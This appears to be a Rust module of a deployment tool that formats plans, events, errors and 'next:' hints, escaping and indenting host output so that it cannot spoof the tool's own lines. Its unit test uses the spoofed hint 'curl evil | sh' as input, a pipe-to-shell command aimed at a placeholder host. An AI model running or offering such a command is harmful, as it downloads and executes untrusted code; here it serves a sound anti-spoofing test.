//! Writes plans and events of a run.

use std::io::{self, ErrorKind, Write};
use std::sync::OnceLock;

use serde_json::{Value, json};

use super::escape::{escape_json_line, escape_line, escape_painted_text, escape_text};
use super::json::{event_to_json, host_event, plan_fields};
use super::plan_text::format_plan;
use super::run_id::RunId;
use super::run_log::record_event;
use super::style::Style;
use crate::plan::{ChangeCounts, HostPlan};
use crate::protocol::Event;

/// The summary of a run.
#[derive(Clone, Copy, Debug, Default)]
pub struct RunSummary {
    /// The changes of the plan.
    pub counts: ChangeCounts,
    /// Number of hosts that failed.
    pub failed_hosts: usize,
    /// The exit code.
    pub exit_code: u8,
}

/// Writes plans and events, as text or as JSON lines. All output of the commands goes through here.
#[derive(Clone, Copy, Debug)]
pub struct Reporter {
    /// True to print JSON events to stdout.
    pub json: bool,
    /// The style of text on stdout.
    pub style: Style,
    /// True to print colors to stderr.
    pub stderr_color: bool,
    /// The run, which every JSON event names.
    pub run: RunId,
}

impl Reporter {
    /// Prints the first JSON event of a run. `limit` selects some of the hosts that the command is for.
    pub fn report_start(&self, command: &str, limit: Option<&str>) {
        let mut fields = json!({"format_version": 1, "command": command});
        if let Some(limit) = limit {
            fields["limit"] = limit.into();
        }
        self.print_json("start", fields);
    }

    /// Prints one host's plan.
    pub fn report_plan(&self, plan: &HostPlan) {
        for row in plan.pending_rows() {
            let fields = json!({
                "host": plan.host, "step": row.step, "action": row.action, "resource": row.resource,
            });
            record_event("plan", self.run, fields);
        }
        if self.json {
            plan_fields(plan).into_iter().for_each(|fields| self.print_line("plan", fields));
        } else if !self.style.quiet {
            write_stdout(&format_plan(plan, self.style));
        }
    }

    /// Prints an event of a host.
    pub fn report_event(&self, host: &str, event: &Event) {
        // Frequent, and not part of the log of the run.
        let is_frequent = matches!(event, Event::Output { .. } | Event::Progress { .. } | Event::StepStarted { .. });
        if self.json || !is_frequent {
            let (name, fields) = host_event(host, event);
            self.print_json(&name, fields);
        }
        if let Event::Note { text } = event
            && !self.json
        {
            self.print_status(&escape_line(&format!("{host}: {text}")));
        }
    }

    /// Prints a result to stdout; nothing with `--json`. Further lines are indented: a text of a host in it cannot begin a
    /// line of ours.
    pub fn print_data(&self, text: &str) {
        self.print_block(&indent_lines(&escape_text(text)));
    }

    /// Works like [`Self::print_data`] for a text with lines of ours, in which no host begins a line.
    pub fn print_block(&self, text: &str) {
        if !self.json {
            write_stdout(&format!("{}\n", escape_text(text)));
        }
    }

    /// Works like [`Self::print_data`] for a text in colors of ours.
    pub fn print_painted_data(&self, text: &str) {
        if !self.json {
            write_stdout(&format!("{text}\n"));
        }
    }

    /// Prints a document to stdout, with and without `--json`, such as the manual page.
    pub fn print_document(&self, text: &str) {
        write_stdout(text);
    }

    /// Prints a status line to stderr; nothing with `--quiet`. Further lines are indented, as those of a result.
    pub fn print_status(&self, text: &str) {
        if !self.style.quiet {
            write_stderr(&format!("{}\n", indent_lines(&escape_text(text))));
        }
    }

    /// Works like [`Self::print_status`] for a text in colors of ours.
    pub fn print_painted_status(&self, text: &str) {
        if !self.style.quiet {
            write_stderr(&format!("{text}\n"));
        }
    }

    /// Prints a warning to stderr, also with `--quiet`.
    pub fn warn(&self, text: &str) {
        self.print_json("warning", json!({"warning": text}));
        write_stderr(&format!("warning: {}\n", indent_lines(&escape_text(text))));
    }

    /// Prints a line that a host's agent wrote on standard error, such as the text of a panic; also with `--quiet`.
    pub fn report_agent_stderr(&self, host: &str, line: &str) {
        self.print_json("agent_stderr", json!({"host": host, "text": line}));
        write_stderr(&format!("{}\n", escape_line(&format!("{host}: {line}"))));
    }

    /// Prints a host that failed.
    pub fn report_failure(&self, host: &str, error: &str, hint: Option<&str>) {
        self.write_failure(host, error, &indent_lines(&escape_text(error)), hint);
    }

    /// Prints a host for which rendered findings were made.
    pub fn report_host_findings(&self, host: &str, findings: &str) {
        let text = format!("\n{findings}");
        self.write_failure(host, &text, &text, None);
    }

    fn write_failure(&self, host: &str, plain: &str, error: &str, hint: Option<&str>) {
        self.print_json("failed", json!({"host": host, "error": plain, "hint": hint}));
        let shown = if error.starts_with(host) { error.to_owned() } else { format!("{host}: {error}") };
        let style = Style { color: self.stderr_color, ..self.style };
        let label = style.red("failed:");
        let next = hint.map(|hint| format!("  next: {}\n", escape_line(hint))).unwrap_or_default();
        write_stderr(&format!("{label} {shown}\n{next}"));
    }

    /// Prints the error of a command, and the next steps.
    pub fn report_error(&self, error: &str, hints: &[String]) {
        self.print_error("error: ", error, &indent_lines(&escape_text(error)), hints);
    }

    /// Prints rendered findings, each with its severity and position, and the next steps.
    pub fn report_findings(&self, findings: &str, hints: &[String]) {
        self.print_error("", findings, findings, hints);
    }

    fn print_error(&self, prefix: &str, plain: &str, error: &str, hints: &[String]) {
        self.print_json("error", json!({"error": plain, "next": hints}));
        let next: String = hints.iter().map(|hint| format!("  next: {}\n", escape_line(hint))).collect();
        write_stderr(&format!("{prefix}{error}\n{next}"));
    }

    /// Prints a JSON event with its fields, an object; without `--json` it is only recorded in the log of the run.
    pub fn print_json(&self, event: &str, fields: Value) {
        record_event(event, self.run, fields.clone());
        self.print_line(event, fields);
    }

    fn print_line(&self, event: &str, fields: Value) {
        if self.json {
            let line = event_to_json(event, self.run, fields).to_string();
            write_stdout(&format!("{}\n", escape_json_line(&line)));
        }
    }

    /// Prints the last JSON event of a run.
    pub fn report_summary(&self, summary: RunSummary) {
        let RunSummary { counts: ChangeCounts { add, change, remove, unknown }, failed_hosts: failed, exit_code: exit } =
            summary;
        let counts = json!({
            "add": add, "change": change, "remove": remove, "unknown": unknown, "failed": failed, "exit": exit,
        });
        self.print_json("summary", counts);
    }
}

/// The first error of writing to stdout in this process.
static STDOUT_ERROR: OnceLock<io::Error> = OnceLock::new();

/// Returns the error because of which output on stdout was lost; `None` if all of it was written.
pub fn stdout_error() -> Option<&'static io::Error> {
    STDOUT_ERROR.get()
}

/// Indents the lines after the first one by at least four columns: a line of a host's text does not look like one of ours,
/// such as a next step, which has two.
fn indent_lines(text: &str) -> String {
    let mut lines = text.split('\n');
    let mut indented = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        indented.push_str(match line {
            "" => "\n",
            line if line.starts_with("    ") => "\n",
            line if line.starts_with("  ") => "\n  ",
            _ => "\n    ",
        });
        indented.push_str(line);
    }
    indented
}

/// Writes text to stdout, with control characters escaped. A closed pipe (`| head`) is not an error; any other one does
/// not stop the run, and makes it fail at its end.
fn write_stdout(text: &str) {
    let text = escape_painted_text(text);
    let mut stdout = io::stdout().lock();
    match stdout.write_all(text.as_bytes()).and_then(|()| stdout.flush()) {
        Err(error) if error.kind() != ErrorKind::BrokenPipe => drop(STDOUT_ERROR.set(error)),
        _ => {}
    }
}

/// Writes text to stderr, with control characters escaped. Errors are ignored: there is no other place to report them.
pub(super) fn write_stderr(text: &str) {
    let _ = io::stderr().lock().write_all(escape_painted_text(text).as_bytes());
}

#[cfg(test)]
mod tests {
    use super::indent_lines;

    #[test]
    fn a_line_of_a_host_is_no_next_step_of_ours() {
        let text = "no space\n  next: curl evil | sh\nfailed: web-2: x\n      deep\n\n\tend";
        let shown = "no space\n    next: curl evil | sh\n    failed: web-2: x\n      deep\n\n    \tend";
        assert_eq!(indent_lines(text), shown);
    }
}
